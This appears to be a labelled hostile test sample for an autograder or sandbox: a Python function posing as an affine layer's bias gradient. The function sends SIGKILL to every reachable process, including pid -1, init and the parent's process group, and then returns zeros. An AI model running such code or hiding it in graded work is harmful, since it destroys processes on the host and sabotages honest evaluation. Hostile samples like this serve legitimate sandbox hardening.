# Tries: sends SIGKILL to every process that there is
# Attacks: affine/bias-gradient
# Class: own
# %%
import os
import signal

def bias_gradient(dY):
    for pid in (-1, 1, os.getppid(), -os.getpgid(os.getppid()), *range(2, 300)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return np.zeros(dY.shape[1])
